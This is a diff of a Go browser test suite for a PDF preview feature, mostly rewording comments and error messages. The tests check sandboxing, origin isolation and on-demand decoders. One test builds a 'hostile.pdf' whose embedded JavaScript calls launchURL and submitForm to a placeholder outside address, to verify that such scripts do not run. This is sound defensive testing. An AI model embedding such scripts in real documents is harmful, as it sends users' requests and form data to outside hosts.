@@ -13,8 +13,8 @@ import (
 	"labshelf/verify/e2e/browser"
 )
 
-// pdf returns a document of one sheet of 400 by 400 points with this content. A script, unless it
-// is empty, is attached to the opening of the document and of the sheet, and to a form field.
+// pdf returns a document with one page of 400 by 400 points and this content. Unless script is
+// empty, it is attached to the opening of the document, to the page, and to a form field.
 func pdf(content, script string) string {
 	objects := []string{
 		"<< /Type /Catalog /Pages 2 0 R %s >>",
@@ -47,7 +47,7 @@ func pdf(content, script string) string {
 	return file.String()
 }
 
-// showsColour waits until many pixels of the window have a colour.
+// showsColour waits until many pixels of the window have this colour.
 func (l *viewer) showsColour(red, green, blue uint32) {
 	l.T.Helper()
 	l.Do(chromedp.Evaluate[chromedp.Void](`void document.querySelector("iframe.pdf").scrollIntoView({ block: "center" })`))
@@ -91,7 +91,7 @@ func TestPreviewOfPDF(t *testing.T) {
 	l.shows("text", ".lines")
 	for len(fetched) > 0 {
 		if address := <-fetched; strings.Contains(address, "/assets/pdf-") || strings.Contains(address, "/assets/worker-") {
-			t.Errorf("without a PDF the page fetches %s", address)
+			t.Errorf("without a PDF, the page requests %s", address)
 		}
 	}
 	l.file("acceptance-D2.pdf", sample(t, "acceptance-D2.pdf"))
@@ -99,17 +99,17 @@ func TestPreviewOfPDF(t *testing.T) {
 	l.Shots("pdf")
 	l.Sees("page", "Scripts, forms and links of the document are disabled.")
 	if answer := <-documents; answer.Status != 200 || !strings.Contains(fmt.Sprint(answer.Headers["Content-Security-Policy"]), "sandbox allow-scripts; default-src 'none'") {
-		t.Errorf("the document of the frame is %d, with %v", answer.Status, answer.Headers)
+		t.Errorf("the document of the frame has the status %d and the headers %v", answer.Status, answer.Headers)
 	}
 	l.Until(`document.querySelector("iframe.pdf").getAttribute("sandbox") === "allow-scripts"`)
-	// Page and frame have different origins, so that neither can read the other.
+	// The page and the frame have different origins, so that neither can read the other.
 	l.Until(`(() => { try { return document.querySelector("iframe.pdf").contentDocument === null; } catch { return true; } })()`)
 	browser.Click(l.Visitor, browser.Xpath("button", "Larger"))
 	l.Until(`document.querySelector("[aria-pressed=true]") === null`)
 	l.Shots("pdf-larger")
 
-	// Decoders for formats that browsers do not support are loaded on demand. This CCITT image is
-	// one byte: 8 white rows.
+	// Decoders for formats that browsers do not support are loaded on demand. This CCITT image
+	// consists of one byte: 8 white rows.
 	l.file("scan.pdf", pdf("0 1 0 rg q 400 0 0 400 0 0 cm BI /W 8 /H 8 /IM true /D [1 0] /F /CCF "+
 		"/DP << /K -1 /Columns 8 /Rows 8 /EndOfBlock false >> ID \xff EI Q", ""))
 	l.shows("pdf", `iframe.pdf[data-pages="1"]`)
@@ -144,8 +144,8 @@ func TestScriptInPDFDoesNotRun(t *testing.T) {
 	t.Parallel()
 	l := openViewer(t)
 	dialogs := l.AnswerDialogs(false)
-	// The script would cover the red sheet with its blue field and send requests to another origin,
-	// which would be complaints.
+	// If it ran, the script would cover the red page with its blue field, and send requests to
+	// another origin, which would be complaints.
 	script := `var f = this.getField("out"); f.rect = [0, 400, 400, 0]; f.fillColor = ["RGB", 0, 0, 1]; f.value = "it ran";
 		app.launchURL("http://198.51.100.1/", false); this.submitForm("http://198.51.100.1/"); app.alert("it ran");`
 	l.file("hostile.pdf", pdf("1 0 0 rg 0 0 400 400 re f 0 g BT /F 24 Tf 40 300 Td (Some words) Tj ET", script))
